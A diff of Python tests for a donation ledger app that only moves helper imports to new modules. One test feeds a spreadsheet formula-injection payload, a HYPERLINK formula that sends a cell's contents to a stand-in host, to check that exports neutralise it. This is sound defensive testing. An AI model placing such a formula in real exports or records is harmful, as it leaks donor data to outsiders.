@@ -129,9 +129,9 @@ def test_verify_names_the_first_altered_entry(runner, demo_site, tmp_path) -> No
                         "--site", "demo"])
     ok = runner.invoke(args=["ledger", "verify"])
     assert ok.exit_code == 0 and "4 écritures" in ok.output and "intègre" in ok.output
-    from tests.ledger.test_service import _tamper
+    from tests.support.database import tamper
 
-    _tamper("UPDATE ledger_entries SET \"on\" = '2026-11-01' WHERE seq = 3")
+    tamper("UPDATE ledger_entries SET \"on\" = '2026-11-01' WHERE seq = 3")
     bad = runner.invoke(args=["ledger", "verify", "--site", "demo"])
     assert bad.exit_code == 1 and "n° 3" in bad.output and "ALTÉRÉ" in bad.output
     assert db.session.scalar(select(func.count(Donor.id))) >= 3
@@ -157,7 +157,7 @@ def test_money_awaiting_a_refund_is_out_of_the_receipts_and_blocks_the_filing_ex
 
     from app.ledger.entries import record_refund
     from app.ledger.gifts import GiftInput, record_gift
-    from tests.ledger.conftest import identity
+    from tests.factories import identity
 
     campaign = demo_site.campaign
     tx(record_gift, GiftInput(campaign_id=campaign.id, amount_cents=450_000, on=date(2026, 11, 2),
@@ -194,7 +194,7 @@ def test_export_never_turns_a_donor_field_into_a_formula(runner, demo_site, tmp_
     from datetime import date
 
     from app.ledger.gifts import GiftInput, record_gift
-    from tests.ledger.conftest import identity
+    from tests.factories import identity
 
     payload = '=HYPERLINK("http://x/?"&B2,"ok")'
     tx(record_gift, GiftInput(campaign_id=demo_site.campaign.id, amount_cents=5_000,
@@ -219,7 +219,7 @@ def test_treasurer_sees_likely_duplicates_and_merges_or_keeps_them_apart(runner,
     from datetime import date
 
     from app.ledger.gifts import GiftInput, record_gift
-    from tests.ledger.conftest import identity
+    from tests.factories import identity
 
     def give(amount: int, ref: str, **who: str) -> int:
         outcome = tx(record_gift, GiftInput(campaign_id=demo_site.campaign.id, amount_cents=amount,
